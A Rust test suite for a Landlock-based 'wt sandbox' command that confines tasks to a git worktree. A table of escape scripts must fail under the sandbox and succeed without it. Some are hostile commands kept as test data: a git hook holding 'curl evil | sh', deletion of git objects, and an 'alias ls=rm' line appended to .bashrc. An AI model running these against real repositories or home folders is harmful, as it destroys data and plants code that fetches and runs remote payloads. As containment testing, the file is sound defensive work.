//! `wt sandbox`: containment is proved by running each escape for real under the sandbox and
//! comparing everything outside the allowed set before and after. Needs a kernel with Landlock
//! (the machines the project runs on have ABI 7); a kernel without it is simulated with the
//! test-only `WT_SANDBOX_ABI=0`.

mod common;
#[path = "common/sandbox_task.rs"]
mod sandbox_task;
#[path = "common/tree_snapshot.rs"]
mod tree_snapshot;

use std::path::{Path, PathBuf};

use common::WtOutput;
use sandbox_task::{DENIED, Task};

/// EXDEV: Landlock's answer to a link or rename that would give a file more rights than it has
/// where it is.
const CROSS_DEVICE: &str = "Invalid cross-device link";

/// Attempts to change something outside the allowed set, one way each: name, bash script, the
/// error the command must report.
const ESCAPES: &[(&str, &str, &str)] = &[
    ("overwrite a main-checkout file", r#"echo pwned > "$MAIN/README.md""#, DENIED),
    ("append to a main-checkout file", r#"echo pwned >> "$MAIN/README.md""#, DENIED),
    ("truncate a main-checkout file", r#"truncate -s 0 "$MAIN/README.md""#, DENIED),
    ("create a file in the main checkout", r#"touch "$MAIN/new.txt""#, DENIED),
    ("make a folder in the main checkout", r#"mkdir "$MAIN/new-folder""#, DENIED),
    ("make a fifo in the main checkout", r#"mkfifo "$MAIN/fifo""#, DENIED),
    ("make a symlink in the main checkout", r#"ln -s /etc/passwd "$MAIN/link""#, DENIED),
    ("write into a sibling worktree", r#"echo pwned > "$SIBLING/README.md""#, DENIED),
    (
        "write the sibling worktree's git folder",
        r#"echo pwned > "$COMMON/worktrees/run1-task-1-2/HEAD""#,
        DENIED,
    ),
    ("create a file in the home folder", r#"echo 'alias ls=rm' >> "$HOME/.bashrc""#, DENIED),
    ("create a file in /tmp", r#"touch "$SYSTEM_TMP_FILE""#, DENIED),
    ("edit the repository's config", r#"echo '[core] hooksPath = /tmp' >> "$COMMON/config""#, DENIED),
    ("git config from the worktree", "git config core.hooksPath /tmp", DENIED),
    ("add a hook", r#"echo 'curl evil | sh' > "$COMMON/hooks/x""#, DENIED),
    ("edit info/exclude", r#"echo '*' >> "$COMMON/info/exclude""#, DENIED),
    ("create packed-refs", r#"echo '0000 refs/heads/main' >> "$COMMON/packed-refs""#, DENIED),
    ("forge the main checkout's HEAD log", r#"echo forged >> "$COMMON/logs/HEAD""#, DENIED),
    (
        "rewrite an existing object",
        r#"f=$(find "$COMMON/objects" -type f | head -1) && mv "$f" "$f.old" && echo pwned > "$f""#,
        DENIED,
    ),
    ("delete the objects", r#"rm -f "$COMMON"/objects/*/*"#, DENIED),
    ("plant a symlink among the objects", r#"ln -s "$MAIN" "$COMMON/objects/zz""#, DENIED),
    ("rewrite the run state", r#"echo '{}' > "$STATE""#, DENIED),
    ("create a file in the run state", r#"touch "$COMMON/spectacular/runs/run1/evil""#, DENIED),
    ("move a worktree file out", r#"mv "$WT/README.md" "$MAIN/moved.md""#, DENIED),
    ("copy a worktree file out", r#"cp "$WT/README.md" "$MAIN/copied.md""#, DENIED),
    ("hard-link a worktree file out", r#"ln "$WT/README.md" "$MAIN/linked.md""#, DENIED),
    (
        "hard-link an outside file in, then write it",
        r#"ln "$MAIN/README.md" hard && echo pwned >> hard"#,
        CROSS_DEVICE,
    ),
    ("symlink out, then write through it", r#"ln -s "$MAIN/README.md" soft && echo pwned >> soft"#, DENIED),
    ("write through a symlink in the worktree", "echo pwned >> outside-link", DENIED),
    ("`..` after a symlink", "echo pwned > dir-link/../escaped.txt", DENIED),
    ("remove a main-checkout file", r#"rm "$MAIN/README.md""#, DENIED),
    ("rename a main-checkout file", r#"mv "$MAIN/README.md" "$MAIN/RENAMED.md""#, DENIED),
    ("commit in the main checkout", r#"git -C "$MAIN" commit --allow-empty -m pwned"#, DENIED),
    ("cd / and create a file", r#"cd / && touch "$ROOT_FILE_NAME""#, DENIED),
    (
        "python writer",
        r#"python3 -c 'import os; open(os.environ["MAIN"] + "/README.md", "a").write("pwned")'"#,
        DENIED,
    ),
    (
        "perl writer",
        r#"perl -e 'open(my $f, ">>", "$ENV{MAIN}/README.md") or die "perl: $!\n"; print $f "pwned"; close $f or die "perl: $!\n"'"#,
        DENIED,
    ),
    ("tee", r#"echo pwned | tee "$MAIN/README.md""#, DENIED),
    ("dd of=", r#"dd if=/dev/zero of="$MAIN/README.md" bs=1 count=1 status=none"#, DENIED),
    ("sort -o", r#"echo pwned | sort -o "$MAIN/README.md""#, DENIED),
    ("sed -i", r#"sed -i s/project/pwned/ "$MAIN/README.md""#, DENIED),
];

/// Files outside the test's folder that escapes aim at: one in /tmp, one in `/`. Removed after
/// the check, should one appear.
struct StrayTargets {
    system_tmp: PathBuf,
    root_file_name: String,
}

impl StrayTargets {
    fn new(index: usize) -> StrayTargets {
        let name = format!("wt-sandbox-escape-{}-{index}", std::process::id());
        StrayTargets { system_tmp: std::env::temp_dir().join(&name), root_file_name: name }
    }

    fn env(&self) -> [(&str, &str); 2] {
        [("SYSTEM_TMP_FILE", self.system_tmp.to_str().unwrap()), ("ROOT_FILE_NAME", &self.root_file_name)]
    }

    fn remove_found(&self) -> Vec<PathBuf> {
        let found: Vec<PathBuf> = [self.system_tmp.clone(), Path::new("/").join(&self.root_file_name)]
            .into_iter()
            .filter(|path| path.exists())
            .collect();
        found.iter().for_each(|path| drop(std::fs::remove_file(path)));
        found
    }
}

#[test]
fn every_escape_fails_with_a_permission_error_and_changes_nothing_outside() {
    let task = Task::new();
    // wt itself creates the task's temporary folder (and its parents) before it restricts itself.
    task.bash("true").ok();
    let before = task.snapshot();
    let mut escaped = Vec::new();
    for (index, (name, script, error)) in ESCAPES.iter().enumerate() {
        let targets = StrayTargets::new(index);
        let out = task.run(&[], &["bash", "-c", script], &targets.env());
        let changes = task.outside_changes(&before);
        let stray = targets.remove_found();
        if out.code() == 0 || !out.stderr().contains(error) || !changes.is_empty() || !stray.is_empty() {
            escaped.push(format!(
                "{name}: exit {}, stderr {:?}, changed {changes:?}, stray {stray:?}",
                out.code(),
                out.stderr()
            ));
        }
    }
    assert!(ESCAPES.len() >= 20);
    assert!(escaped.is_empty(), "escapes that were not stopped:\n{}", escaped.join("\n"));
}

/// The control: without the sandbox every escape of the table does change something outside, so
/// the test above proves containment rather than a harmless script.
#[test]
fn every_escape_changes_something_outside_when_run_without_the_sandbox() {
    let mut harmless = Vec::new();
    for (index, (name, script, _)) in ESCAPES.iter().enumerate() {
        let task = Task::new();
        let before = task.snapshot();
        let main_before = task.repo.git(&["rev-parse", "main"]);
        let targets = StrayTargets::new(ESCAPES.len() + index);
        let mut bash = task.repo.command("bash", &task.worktree);
        bash.args(["-c", script]).envs(task.escape_env()).envs(targets.env());
        let out = bash.output().unwrap();
        let changed = !task.outside_changes(&before).is_empty()
            || !targets.remove_found().is_empty()
            || task.repo.git(&["rev-parse", "main"]) != main_before;
        if !out.status.success() || !changed {
            harmless.push(format!("{name}: {:?} {}", out.status, String::from_utf8_lossy(&out.stderr)));
        }
    }
    assert!(harmless.is_empty(), "escapes that change nothing even unsandboxed:\n{}", harmless.join("\n"));
}

#[test]
fn git_add_commit_and_amend_in_the_worktree_work_and_change_nothing_outside() {
    let task = Task::new();
    task.bash("true").ok();
    let before = task.snapshot();
    let main = task.repo.git(&["rev-parse", "main"]);
    let script = "echo work >> README.md && git add README.md && git commit -q -m 'task work' \
                  && echo more >> README.md && git commit -q -a --amend -m 'task work, amended'";
    task.bash(script).ok();
    assert_eq!(task.repo.subjects("main", "task-1-1"), ["task work, amended"]);
    assert_eq!(task.repo.git(&["rev-parse", "main"]), main);
    assert_eq!(task.outside_changes(&before), Vec::<String>::new());
}

#[test]
fn a_tiny_crate_builds_and_tests_offline() {
    let task = Task::new();
    std::fs::create_dir_all(task.worktree.join("tiny/src")).unwrap();
    std::fs::write(
        task.worktree.join("tiny/Cargo.toml"),
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    )
    .unwrap();
    let lib = "pub fn two() -> u32 { 2 }\n#[test]\nfn two_is_two() { assert_eq!(two(), 2); }\n";
    std::fs::write(task.worktree.join("tiny/src/lib.rs"), lib).unwrap();
    let cargo_home = task.repo.home.join(".cargo");
    // The real toolchain, read from where rustup keeps it; nothing is written there.
    let rustup_home = std::env::var_os("RUSTUP_HOME")
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|home| PathBuf::from(home).join(".rustup")))
        .unwrap();
    let env = [("CARGO_HOME", cargo_home.to_str().unwrap()), ("RUSTUP_HOME", rustup_home.to_str().unwrap())];
    let out =
        task.run(&[], &["bash", "-c", "cd tiny && cargo build --offline && cargo test --offline"], &env);
    out.ok();
    assert!(out.stdout().contains("test two_is_two ... ok"), "{}", out.stdout());
    assert!(task.worktree.join("tiny/target/debug").is_dir());
}

#[test]
fn an_npm_script_and_a_python_script_write_in_the_worktree_and_tmpdir() {
    let task = Task::new();
    // An existing npm cache, as on any machine that has run npm (npm logs there).
    std::fs::create_dir_all(task.repo.home.join(".npm")).unwrap();
    let build = "node -e \"const fs = require('fs'), path = require('path'); fs.writeFileSync('npm-out.txt', 'built'); \
                 fs.writeFileSync(path.join(process.env.TMPDIR, 'npm-tmp.txt'), 'tmp')\"";
    let package =
        serde_json::json!({"name": "tiny", "version": "1.0.0", "private": true, "scripts": {"build": build}});
    std::fs::write(task.worktree.join("package.json"), package.to_string()).unwrap();
    let python = "import os, tempfile\nopen('py-out.txt', 'w').write('written')\n\
                  with tempfile.NamedTemporaryFile(delete=False) as f:\n    f.write(b'tmp')\nprint(f.name)\n";
    std::fs::write(task.worktree.join("script.py"), python).unwrap();
    let env = [("npm_config_update_notifier", "false"), ("npm_config_offline", "true")];
    task.run(&[], &["npm", "run", "build"], &env).ok();
    let tmp_file = task.run(&[], &["python3", "script.py"], &[]).ok();
    let tmp = task.common.join("spectacular/tmp/run1-task-1-1");
    assert_eq!(std::fs::read_to_string(task.worktree.join("npm-out.txt")).unwrap(), "built");
    assert_eq!(std::fs::read_to_string(tmp.join("npm-tmp.txt")).unwrap(), "tmp");
    assert_eq!(std::fs::read_to_string(task.worktree.join("py-out.txt")).unwrap(), "written");
    assert!(Path::new(tmp_file.trim()).starts_with(&tmp), "{tmp_file}");
}

#[test]
fn reading_outside_still_works() {
    let task = Task::new();
    let out = task.bash(r#"cat "$MAIN/README.md" "$OUTSIDE/target.txt" && ls "$HOME" /tmp >/dev/null"#).ok();
    assert_eq!(out, "# project\noutside\n");
}

#[test]
fn tmpdir_tmp_and_temp_point_to_the_task_folder_or_to_tmp() {
    let task = Task::new();
    let default = task.common.join("spectacular/tmp/run1-task-1-1");
    let out = task.bash(r#"echo "$TMPDIR $TMP $TEMP""#).ok();
    assert_eq!(out.trim(), format!("{0} {0} {0}", default.display()));
    let chosen = task.repo.scratch.join("task-tmp");
    let out = task.run(
        &["--tmp", chosen.to_str().unwrap()],
        &["bash", "-c", r#"touch "$TMPDIR/x" && echo "$TMPDIR""#],
        &[],
    );
    assert_eq!(out.ok().trim(), chosen.to_str().unwrap());
    assert!(chosen.join("x").is_file());
}

#[test]
fn the_exit_code_and_stdin_pass_through() {
    let task = Task::new();
    assert_eq!(task.bash("exit 7").code(), 7);
    let mut cmd = task.repo.command(env!("CARGO_BIN_EXE_wt"), &task.worktree);
    cmd.args(["sandbox", "--root", task.worktree.to_str().unwrap(), "--", "cat"]);
    let out = common::with_stdin(cmd, "from stdin\n");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "from stdin\n");
}

#[test]
fn a_missing_command_exits_127_with_a_message() {
    let task = Task::new();
    let out = task.run(&[], &["no-such-command-here"], &[]);
    assert_eq!(out.code(), 127, "{}", out.stderr());
    assert!(out.stderr().contains("no-such-command-here: command not found"), "{}", out.stderr());
}

#[test]
fn a_worktree_on_another_branch_is_refused_with_exit_3() {
    let task = Task::new();
    let out = task.run(&["--branch", "task-1-2"], &["touch", "ran"], &[]);
    assert_eq!(out.code(), 3, "{}", out.stderr());
    assert!(out.stderr().contains("is on branch task-1-1, not on branch task-1-2"), "{}", out.stderr());
    assert!(out.stderr().contains("hint: run `git -C"), "{}", out.stderr());
    assert!(!task.worktree.join("ran").exists());
    task.run(&["--branch", "task-1-1"], &["touch", "ran"], &[]).ok();
    assert!(task.worktree.join("ran").exists());
}

#[test]
fn a_main_checkout_is_not_a_task_worktree() {
    let task = Task::new();
    let mut cmd = task.repo.command(env!("CARGO_BIN_EXE_wt"), &task.repo.root);
    cmd.args(["sandbox", "--root", ".", "--", "true"]);
    let out = WtOutput(cmd.output().unwrap());
    assert_eq!(out.code(), 2, "{}", out.stderr());
    assert!(out.stderr().contains("is not a linked worktree: it is a main checkout"), "{}", out.stderr());
}

#[test]
fn without_landlock_wt_refuses_to_start_and_says_how_to_fix_it() {
    let task = Task::new();
    let out = task.run(&[], &["touch", "ran"], &[("WT_SANDBOX_ABI", "0")]);
    assert_eq!(out.code(), 3, "{}", out.stderr());
    let stderr = out.stderr();
    assert!(stderr.contains("cannot contain the command: Landlock is turned off"), "{stderr}");
    assert!(stderr.contains("hint: or set `[sandbox] required = false`"), "{stderr}");
    assert!(!task.worktree.join("ran").exists());
}

#[test]
fn without_landlock_and_not_required_the_command_runs_contained_by_policy_only() {
    let task = Task::new();
    let rules = task.write_rules("[sandbox]\nrequired = false\n");
    let args = ["--rules", rules.to_str().unwrap()];
    let out = task.run(&args, &["bash", "-c", "touch ran && echo ok"], &[("WT_SANDBOX_ABI", "0")]);
    assert_eq!(out.ok(), "ok\n");
    assert_eq!(out.stderr().lines().count(), 1, "{}", out.stderr());
    assert!(out.stderr().contains("contained by policy only"), "{}", out.stderr());
}

#[test]
fn deny_outside_reads_hide_the_main_checkout_but_not_the_worktree() {
    let task = Task::new();
    // The project's own rules, read from the main checkout by default.
    task.repo.write(".spectacular/guard.toml", "reads = \"deny-outside\"\n");
    let out = task.bash(r#"cat "$MAIN/README.md""#);
    assert_ne!(out.code(), 0);
    assert!(out.stderr().contains(DENIED), "{}", out.stderr());
    let out = task.bash(r#"cat "$HOME/../scratch/outside/target.txt""#);
    assert!(out.stderr().contains(DENIED), "{}", out.stderr());
    let script = "cat README.md && echo more >> README.md && git add README.md && git commit -q -m read-and-write \
                  && echo tmp > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"";
    assert_eq!(task.bash(script).ok(), "# project\ntmp\n");
    assert_eq!(task.repo.subjects("main", "task-1-1"), ["read-and-write"]);
}

#[test]
fn allow_write_from_the_rules_and_the_command_line_is_writable() {
    let task = Task::new();
    for folder in [".gradle", "../scratch/extra"] {
        std::fs::create_dir_all(task.repo.home.join(folder)).unwrap();
    }
    std::fs::create_dir_all(task.repo.root.join("shared-cache")).unwrap();
    let rules =
        task.write_rules("[sandbox]\nallow_write = [\"~/.gradle\", \"shared-cache\", \"~/.missing\"]\n");
    let extra = task.repo.scratch.join("extra");
    let args = ["--rules", rules.to_str().unwrap(), "--allow-write", extra.to_str().unwrap()];
    let script = r#"touch "$HOME/.gradle/a" "$MAIN/shared-cache/b" "$OUTSIDE/../extra/c" && touch "$MAIN/c""#;
    let out = task.run(&args, &["bash", "-c", script], &[("WT_DEBUG", "1")]);
    assert_eq!(out.code(), 1, "{}", out.stderr());
    assert!(out.stderr().contains(&format!("{}/c': {DENIED}", task.repo.root.display())), "{}", out.stderr());
    for path in [task.repo.home.join(".gradle/a"), task.repo.root.join("shared-cache/b"), extra.join("c")] {
        assert!(path.is_file(), "{}", path.display());
    }
    let skipped = format!(
        "sandbox skips {}/.missing ([sandbox] allow_write in guard.toml): does not exist",
        task.repo.home.display()
    );
    assert!(out.stderr().contains(&skipped), "{}", out.stderr());
}

#[test]
fn output_already_redirected_to_a_file_outside_can_be_reopened_but_not_its_folder() {
    // A run sends an agent's output to a log in its state folder; `> /dev/stderr` reopens it.
    let task = Task::new();
    let log = task.repo.scratch.join("agent.log");
    // Appended to, as wt opens task logs.
    let file = std::fs::OpenOptions::new().create(true).append(true).open(&log).unwrap();
    let mut cmd = task.repo.command(env!("CARGO_BIN_EXE_wt"), &task.worktree);
    cmd.args(["sandbox", "--root", task.worktree.to_str().unwrap(), "--", "bash", "-c"]);
    cmd.arg(r#"echo to-log > /dev/stderr && echo beside > "$LOG.beside""#);
    cmd.env("LOG", &log).stderr(file.try_clone().unwrap()).stdout(file);
    assert_eq!(cmd.status().unwrap().code(), Some(1));
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(text.starts_with("to-log\n"), "{text}");
    assert!(text.contains(&format!("agent.log.beside: {DENIED}")), "{text}");
}

#[test]
fn network_deny_refuses_tcp_connections_that_are_allowed_without_it() {
    let task = Task::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let connect = r#"exec 3<>"/dev/tcp/127.0.0.1/$PORT" && echo connected"#;
    let open = task.run(&[], &["bash", "-c", connect], &[("PORT", &port)]);
    assert_eq!(open.code(), 0, "without network = \"deny\" the connection works: {}", open.stderr());
    let rules = task.write_rules("[sandbox]\nnetwork = \"deny\"\n");
    let args = ["--rules", rules.to_str().unwrap()];
    let closed = task.run(&args, &["bash", "-c", connect], &[("PORT", &port)]);
    assert_ne!(closed.code(), 0, "{}", closed.stdout());
    assert!(closed.stderr().contains(DENIED), "{}", closed.stderr());
    let old = task.run(&args, &["true"], &[("WT_SANDBOX_ABI", "3")]);
    assert_eq!(old.code(), 3, "a kernel without TCP rules refuses: {}", old.stderr());
    assert!(old.stderr().contains("needs Landlock ABI 4"), "{}", old.stderr());
}

#[test]
fn unknown_sandbox_keys_and_values_are_bad_input() {
    let task = Task::new();
    let rules = task.write_rules("[sandbox]\nrequird = false\n");
    let out = task.run(&["--rules", rules.to_str().unwrap()], &["true"], &[]);
    assert_eq!(out.code(), 2, "{}", out.stderr());
    assert!(out.stderr().contains("guard.toml:2:1: unknown field `requird`"), "{}", out.stderr());
    let rules = task.write_rules("[sandbox]\nunix_sockets = \"none\"\n");
    let out = task.run(&["--rules", rules.to_str().unwrap()], &["true"], &[]);
    assert_eq!(out.code(), 2, "{}", out.stderr());
    let message = format!("{}:2:16: unknown variant `none`, expected `allow` or `deny`", rules.display());
    assert!(out.stderr().contains(&message), "{}", out.stderr());
}

#[test]
fn on_an_older_kernel_abi_commits_work_and_escapes_still_fail() {
    // ABI 1 has no refer right (every cross-folder rename or link is refused) and no truncate
    // right; ABI 3 adds both but not ioctl_dev. WT_SANDBOX_ABI stands in for such kernels.
    for (abi, handled_last) in [("1", "MakeSym\n"), ("3", "Truncate\n")] {
        let task = Task::new();
        let env = [("WT_SANDBOX_ABI", abi), ("WT_DEBUG", "1")];
        let script = r#"echo work >> README.md && git commit -q -am work && echo pwned >> "$MAIN/README.md""#;
        let out = task.run(&[], &["bash", "-c", script], &env);
        assert_eq!(out.code(), 1, "ABI {abi}: {}", out.stderr());
        let stderr = out.stderr();
        assert!(stderr.contains(&format!("Landlock ABI {abi}, handling WriteFile")), "{stderr}");
        assert!(stderr.contains(handled_last), "ABI {abi}: {stderr}");
        assert!(stderr.contains(&format!("README.md: {DENIED}")), "{stderr}");
        assert_eq!(task.repo.subjects("main", "task-1-1"), ["work"]);
        assert_eq!(std::fs::read_to_string(task.repo.root.join("README.md")).unwrap(), "# project\n");
    }
}
